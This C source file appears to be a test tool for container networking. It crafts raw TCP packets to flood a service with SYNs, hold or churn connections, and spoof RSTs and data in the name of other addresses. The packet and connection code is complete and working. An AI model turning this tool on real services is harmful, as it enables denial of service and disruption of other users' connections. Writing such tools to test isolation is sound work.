/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/* A pod that tries to take from others: raw packets, and connections that it opens and forgets. */
#include <poll.h>

#include <netinet/ip.h>
#include <sys/resource.h>

#include "net.h"

static const char usage[] =
	"usage: hostile ATTACK COUNT OWN_ADDRESS ADDR:PORT [FIRST_PORT PORTS ADDRESS...]\n"
	"Sends COUNT packets, or opens COUNT connections, from OWN_ADDRESS to ADDR:PORT; COUNT 0: until it is\n"
	"ended.\n"
	"  syn      SYNs whose answers are ignored\n"
	"  bad      SYNs with a wrong checksum, and with RST\n"
	"  stray    packets of no connection\n"
	"  churn    connections that are closed at once, every other one by RST\n"
	"  hold     connections that are held, idle, until it is ended\n"
	"  self     connections to the own port behind the service, both sides made up\n"
	"  reset    RSTs in the name of each ADDRESS, from each of its ports\n"
	"  forge    data in the name of each ADDRESS, from each of its ports\n"
	"  answer   data and RSTs to each port of each ADDRESS in the name of ADDR:PORT\n"
	"Prints the packets sent, or the connections opened.\n";

#define SYN 2
#define RST 4
#define ACK 16

struct packet {
	struct iphdr ip;
	struct tcphdr tcp;
};

#define MARK 1        /* of what it sends itself, as opposed to what its kernel answers */
#define PACE 20       /* packets in a millisecond */
#define IN_FLIGHT 128 /* connections that open at once */

/* Numbers of the two sides of a connection that is made up. */
#define CLIENT_SEQ 0x1234567u
#define SERVER_SEQ 0x7654321u

static struct {
	int fd;
	uint32_t own;
	struct sockaddr_in to;
	uint32_t *victims;
	uint64_t victim_count, first_port, ports;
} self;

static uint16_t sum(const void *data, size_t bytes, uint32_t start)
{
	const uint16_t *word = data;

	for (size_t i = 0; i < bytes / 2; i++)
		start += word[i];
	start = (start & 0xffff) + (start >> 16);
	return (uint16_t)~(start + (start >> 16));
}

static uint32_t pseudo(const struct packet *p)
{
	uint64_t all = (uint64_t)p->ip.saddr + p->ip.daddr + htons(IPPROTO_TCP) +
		       htons(sizeof(p->tcp));

	all = (all & 0xffff) + (all >> 16 & 0xffff) + (all >> 32);
	return (uint32_t)((all & 0xffff) + (all >> 16));
}

struct end {
	uint32_t addr;
	uint16_t port; /* network order */
};

/* A lost packet is a packet less, nothing else. */
static void emit(struct end from, struct end to, uint8_t flags, uint32_t seq, uint32_t ack,
		 uint16_t wrong)
{
	struct sockaddr_in sin = { .sin_family = AF_INET, .sin_addr.s_addr = to.addr };
	struct packet p = {
		.ip = { .ihl = 5,
			.version = 4,
			.ttl = 64,
			.protocol = IPPROTO_TCP,
			.tot_len = htons(sizeof(p)),
			.saddr = from.addr,
			.daddr = to.addr },
		.tcp = { .source = from.port,
			 .dest = to.port,
			 .doff = 5,
			 .window = htons(8192),
			 .seq = htonl(seq),
			 .ack_seq = htonl(ack) },
	};

	((uint8_t *)&p.tcp)[13] = flags;
	p.tcp.check = (uint16_t)(sum(&p.tcp, sizeof(p.tcp), pseudo(&p)) ^ wrong);
	sendto(self.fd, &p, sizeof(p), MSG_DONTWAIT, (struct sockaddr *)&sin, sizeof(sin));
}

static int marked_socket(int type, int protocol)
{
	int mark = MARK, fd = socket(AF_INET, type, protocol);

	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_MARK, &mark, sizeof(mark)))
		die("socket");
	return fd;
}

static struct end service(void)
{
	return (struct end){ self.to.sin_addr.s_addr, self.to.sin_port };
}

static void from_own(uint64_t i, uint8_t flags, uint16_t wrong)
{
	emit((struct end){ self.own, htons((uint16_t)(1024 + i % 64000)) }, service(), flags,
	     CLIENT_SEQ, flags & ACK ? SERVER_SEQ : 0, wrong);
}

/* The SYN, the SYN-ACK that the server behind the service would send, and the answer to it. */
static void make_up(uint64_t i)
{
	struct end client = { self.own, htons((uint16_t)(1024 + i % 64000)) };
	struct end server = { self.own, self.to.sin_port };
	struct end seen = { self.to.sin_addr.s_addr, client.port };

	emit(client, service(), SYN, CLIENT_SEQ, 0, 0);
	emit(server, seen, SYN | ACK, SERVER_SEQ, CLIENT_SEQ + 1, 0);
	emit(client, service(), ACK, CLIENT_SEQ + 1, SERVER_SEQ + 1, 0);
}

static struct end victim(uint64_t i)
{
	if (!self.victim_count)
		usage_exit(usage);
	return (struct end){
		self.victims[i % self.victim_count],
		htons((uint16_t)(self.first_port + i / self.victim_count % self.ports)),
	};
}

static void attack(const char *kind, uint64_t i)
{
	if (!strcmp(kind, "syn"))
		from_own(i, SYN, 0);
	else if (!strcmp(kind, "bad"))
		from_own(i, i % 2 ? SYN : SYN | RST, (uint16_t)(i % 2));
	else if (!strcmp(kind, "stray"))
		from_own(i, ACK, 0);
	else if (!strcmp(kind, "self"))
		make_up(i);
	else if (!strcmp(kind, "reset"))
		emit(victim(i), service(), RST, CLIENT_SEQ, 0, 0);
	else if (!strcmp(kind, "forge"))
		emit(victim(i), service(), ACK, CLIENT_SEQ, SERVER_SEQ, 0);
	else if (!strcmp(kind, "answer"))
		emit(service(), victim(i / 2), i % 2 ? RST : ACK, SERVER_SEQ, CLIENT_SEQ, 0);
	else
		usage_exit(usage);
}

static void packets(const char *kind, uint64_t count)
{
	for (uint64_t i = 0; !count || i < count; i++) {
		attack(kind, i);
		if (i % PACE == PACE - 1)
			sleep_ms(1);
	}
}

/* ------------------------------------------------------------------ connections */

static int open_one(void)
{
	int fd = marked_socket(SOCK_STREAM | SOCK_NONBLOCK, 0);

	if (connect(fd, (struct sockaddr *)&self.to, sizeof(self.to)) && errno != EINPROGRESS) {
		close(fd);
		return -1;
	}
	return fd;
}

/* True if it has opened. It has as long as the others took that were begun after it. */
static bool has_opened(int fd)
{
	struct pollfd poller = { .fd = fd, .events = POLLOUT };
	socklen_t size = sizeof(int);
	int err = 0;

	if (poll(&poller, 1, 100) != 1)
		return false;
	return !getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &size) && !err;
}

static void close_one(int fd, bool by_reset)
{
	struct linger at_once = { .l_onoff = 1 };

	if (by_reset)
		setsockopt(fd, SOL_SOCKET, SO_LINGER, &at_once, sizeof(at_once));
	close(fd);
}

static uint64_t connections(uint64_t count, bool keep)
{
	int fds[IN_FLIGHT];
	uint64_t opened = 0;

	memset(fds, -1, sizeof(fds));
	for (uint64_t i = 0; !count || i < count + IN_FLIGHT; i++) {
		int *fd = &fds[i % IN_FLIGHT];
		bool open = *fd >= 0 && has_opened(*fd);

		opened += open;
		if (*fd >= 0 && !(open && keep))
			close_one(*fd, i % 2);
		*fd = !count || i < count ? open_one() : -1;
	}
	return opened;
}

static void more_files(void)
{
	struct rlimit limit;

	getrlimit(RLIMIT_NOFILE, &limit);
	limit.rlim_cur = limit.rlim_max;
	setrlimit(RLIMIT_NOFILE, &limit);
}

static void parse_victims(int argc, char **argv)
{
	if (argc < 3)
		usage_exit(usage);
	self.first_port = number(argv[0]);
	self.ports = number(argv[1]);
	self.victim_count = (uint64_t)argc - 2;
	self.victims = calloc(self.victim_count, sizeof(*self.victims));
	if (!self.ports || !self.victims)
		usage_exit(usage);
	for (uint64_t i = 0; i < self.victim_count; i++)
		if (inet_pton(AF_INET, argv[i + 2], &self.victims[i]) != 1)
			usage_exit(usage);
}

int main(int argc, char **argv)
{
	char *colon = argc > 4 ? strchr(argv[4], ':') : NULL;
	uint64_t count, done;
	bool hold;

	if (!colon || inet_pton(AF_INET, argv[3], &self.own) != 1)
		usage_exit(usage);
	*colon = '\0';
	self.to = endpoint(argv[4], colon + 1).v4;
	count = done = number(argv[2]);
	if (argc > 5)
		parse_victims(argc - 5, argv + 5);
	more_files();
	self.fd = marked_socket(SOCK_RAW, IPPROTO_RAW);
	hold = !strcmp(argv[1], "hold");
	if (hold || !strcmp(argv[1], "churn"))
		done = connections(count, hold);
	else
		packets(argv[1], count);
	printf("%s: %llu\n", argv[1], (unsigned long long)done);
	fflush(stdout);
	while (hold)
		pause();
	return 0;
}
